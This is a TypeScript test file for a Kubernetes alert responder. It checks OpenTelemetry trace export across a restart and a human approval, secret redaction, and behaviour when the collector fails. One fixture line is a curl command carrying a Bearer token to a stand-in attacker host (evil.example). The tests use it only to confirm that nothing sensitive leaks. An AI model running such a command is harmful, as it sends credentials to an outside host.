// SPDX-License-Identifier: Apache-2.0
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { readConfigFiles } from "#responder/adapters/config-files";
import { openAuditFile } from "#responder/adapters/audit-file";
import { makeMemoryCluster } from "#responder/adapters/memory-cluster";
import { makeMemoryQueue } from "#responder/adapters/memory-queue";
import { openSpool } from "#responder/adapters/spool";
import { types } from "#responder/cluster";
import { parseConfig } from "#responder/config/config";
import { writeApproval } from "#responder/console-ports";
import { makeMetrics } from "#responder/metrics";
import { observe } from "#responder/observe";
import type { State } from "#responder/remediation";
import { readRemediation } from "#responder/record/remediation-record";
import { startResponder } from "#responder/responder";
import { rootOf, spanAttributes } from "#responder/tracing";
import { eventually } from "#test/support/processes";

const ended: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const end of ended.splice(0).toReversed()) await end();
});

const otlpSpan = z.object({
  traceId: z.string(),
  spanId: z.string(),
  parentSpanId: z.string().optional(),
  name: z.string(),
  startTimeUnixNano: z.string(),
  endTimeUnixNano: z.string(),
  events: z.array(z.object({ name: z.string() })).default([]),
  attributes: z.array(
    z.object({ key: z.string(), value: z.object({ stringValue: z.string().optional() }) }),
  ),
});
type OtlpSpan = z.infer<typeof otlpSpan>;
const otlpBody = z.object({
  resourceSpans: z.array(z.object({ scopeSpans: z.array(z.object({ spans: z.array(otlpSpan) })) })),
});

/** A collector: takes OTLP over HTTP in JSON, and remembers spans and headers. */
async function startCollector(status = 200) {
  const spans: OtlpSpan[] = [];
  const raw: string[] = [];
  const headers: (string | string[] | undefined)[] = [];
  const server: Server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on("data", (part: Buffer) => parts.push(part));
    request.on("end", () => {
      const text = Buffer.concat(parts).toString("utf8");
      raw.push(text);
      headers.push(request.headers["x-collector-key"]);
      for (const resource of otlpBody.parse(JSON.parse(text)).resourceSpans) {
        for (const scope of resource.scopeSpans) spans.push(...scope.spans);
      }
      response.writeHead(status, { "content-type": "application/json" }).end("{}");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  ended.push(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  const address: AddressInfo | string | null = server.address();
  if (address === null || typeof address === "string") throw new Error("no address");
  return { endpoint: `http://127.0.0.1:${address.port}/v1/traces`, spans, raw, headers };
}

const secretWords = "curl -H 'Authorization: Bearer hunter2hunter2' https://evil.example";

const alertText = (pod: string, n: number): string =>
  JSON.stringify({
    hostname: "node-1",
    rule: "Terminal shell in container",
    priority: "Notice",
    source: "syscall",
    output: secretWords,
    time: new Date().toISOString().replace("Z", `${String(n).padStart(6, "0")}Z`),
    output_fields: { "k8s.ns.name": "shop", "k8s.pod.name": pod, "proc.cmdline": secretWords },
  });

async function startScene(endpoint: string, memory = makeMemoryCluster(Date.now)) {
  const directory = mkdtempSync(join(tmpdir(), "parapet-traces-"));
  const parsed = parseConfig(
    {
      settle: "50ms",
      tracing: { endpoint, headers: [{ name: "x-collector-key", value: "key-of-the-collector" }] },
    },
    { PARAPET_INTAKE_TOKEN: "0123456789abcdef", PARAPET_IDENTITY: "one" },
  );
  if (!parsed.ok) throw new Error(parsed.problems.join("\n"));
  const read = await readConfigFiles(parsed.config);
  if (!read.ok) throw new Error(read.problems.join("\n"));
  const queue = makeMemoryQueue();
  const common = {
    spool: await openSpool(join(directory, "spool"), 1 << 20),
    metrics: makeMetrics(),
    log: () => undefined,
    now: Date.now,
  };
  const cluster = memory.client();
  const observed = await observe(parsed.config, read.files, { ...common, queue, cluster });
  const audit = await openAuditFile(join(directory, "audit.jsonl"), Date.now);
  const responder = startResponder(parsed.config, { ...common, ...observed, audit });
  const stop = async (): Promise<void> => {
    await responder.stop();
    await observed.stop();
    rmSync(directory, { recursive: true, force: true });
  };
  const people = memory.client("kubectl");
  const inState = (...states: readonly State[]) =>
    eventually(`a remediation in ${states.join(" or ")}`, async () => {
      const listed = await people.list(types.remediation, {});
      const all = listed.ok ? listed.value.items.map(readRemediation) : [];
      return all.flatMap((one) =>
        typeof one === "object" && states.includes(one.status.state) ? [one] : [],
      )[0];
    });
  return { responder, queue, memory, people, inState, stop, metrics: common.metrics };
}

const attributesOf = (span: OtlpSpan | undefined): Record<string, string | undefined> =>
  Object.fromEntries((span?.attributes ?? []).map(({ key, value }) => [key, value.stringValue]));

const podObject = {
  apiVersion: "v1",
  kind: "Pod",
  metadata: { name: "web", namespace: "shop", labels: { app: "web" } },
  spec: { containers: [{ name: "web", image: "nginx" }] },
  status: { phase: "Running" },
};
const policyObject = {
  apiVersion: "parapet.dev/v1alpha1",
  kind: "ResponsePolicy",
  metadata: { name: "isolate-shells" },
  spec: {
    match: { falco: { priority: ">=Notice" } },
    do: [{ isolate: { ttl: "1h" } }],
    mode: "Propose",
  },
};

describe("the trace of an alert", () => {
  it("goes from its acceptance over a restart to its outcome, in one trace, and tells no secret", async () => {
    const collector = await startCollector();
    const first = await startScene(collector.endpoint);
    await first.people.create(types.pod, podObject);
    await first.people.create(types.responsePolicy, policyObject);
    await first.responder.acting;
    const text = alertText("web", 1);
    await first.responder.intake.accept(Buffer.from(text), "falcosidekick");
    const proposed = await first.inState("Proposed");
    await first.stop();

    // Another process, and a person, go on with it.
    const second = await startScene(collector.endpoint, first.memory);
    ended.push(second.stop);
    const name = { name: proposed.name, digest: proposed.plan?.digest ?? "" };
    const decision = { decision: "Approve", by: "jane@example.org", reason: "seen" } as const;
    await writeApproval(second.people, { ...name, ...decision }, Date.now());
    await second.inState("Verified", "Realised", "Unverifiable");
    const wholeTrace = [
      ...["accept", "durable write", "queue wait", "decide", "plan"],
      ...["approval wait", "act", "verify"],
    ];
    const names = (): readonly string[] => collector.spans.map((span) => span.name);
    await eventually("all spans", () => wholeTrace.every((one) => names().includes(one)));

    const root = rootOf(proposed.cause.fingerprint);
    expect([...new Set(names())].sort()).toEqual(wholeTrace.sort());
    expect(new Set(collector.spans.map((span) => span.traceId))).toEqual(new Set([root.traceId]));
    for (const span of collector.spans) {
      if (span.name === "accept") expect(span.spanId).toBe(root.spanId);
      else expect([span.name, span.parentSpanId]).toEqual([span.name, root.spanId]);
      expect(BigInt(span.endTimeUnixNano) >= BigInt(span.startTimeUnixNano)).toBe(true);
    }
    expect(new Set(collector.spans.map((span) => span.spanId)).size).toBe(collector.spans.length);
    const of = (wanted: string) => collector.spans.find((span) => span.name === wanted);
    expect(attributesOf(of("accept"))).toEqual({
      "parapet.alert.priority": "Notice",
      "parapet.sender": "falcosidekick",
      "parapet.kept": "queue",
    });
    expect(attributesOf(of("decide"))).toMatchObject({
      "parapet.outcome": "opened",
      "parapet.policy": "isolate-shells",
      "parapet.remediation": `shop/${proposed.name.name}`,
    });
    expect(of("approval wait")?.events?.map((event) => event.name)).toEqual(["approved"]);
    expect(attributesOf(of("act"))).toMatchObject({
      "parapet.state": "Applied",
      "parapet.actions": "isolate",
    });

    expect(collector.headers).toContain("key-of-the-collector");
    const allowed: readonly string[] = spanAttributes;
    for (const span of collector.spans) {
      for (const { key } of span.attributes) expect(allowed).toContain(key);
    }
    for (const body of collector.raw) expect(body).not.toMatch(/hunter2|evil|jane|Bearer|curl/);
    // They are counted once the collector's answer is there, which comes after it has them.
    await eventually("counted", () =>
      /parapet_spans_total\{result="sent"\} [1-9]/.test(second.metrics.text()),
    );
  });

  it("costs nobody anything while the collector refuses or is away", async () => {
    const collector = await startCollector(400);
    const scene = await startScene(collector.endpoint);
    ended.push(scene.stop);
    await scene.responder.acting;
    for (let n = 0; n < 50; n++) {
      const reply = await scene.responder.intake.accept(Buffer.from(alertText("x", n)), "falco");
      expect(reply.status).toBe(202);
    }
    await eventually("counted", () =>
      /parapet_spans_total\{result="failed"\} [1-9]/.test(scene.metrics.text()),
    );
    const away = await startScene("http://127.0.0.1:9/v1/traces");
    const reply = await away.responder.intake.accept(Buffer.from(alertText("x", 1)), "falco");
    expect(reply.status).toBe(202);
    const startedAt = performance.now();
    await away.stop();
    expect(performance.now() - startedAt).toBeLessThan(8_000);
  });

  it("tells the disk from the queue, and the way from one to the other", async () => {
    const collector = await startCollector();
    const scene = await startScene(collector.endpoint);
    ended.push(scene.stop);
    scene.queue.setUp(false);
    await scene.responder.intake.accept(Buffer.from(alertText("x", 1)), "falco");
    scene.queue.setUp(true);
    await eventually("drained", () => collector.spans.some((span) => span.name === "drain"));
    const kept = collector.spans.filter((span) => span.name === "accept").map(attributesOf);
    expect(kept.map((one) => one["parapet.kept"])).toEqual(["spool"]);
  });
});
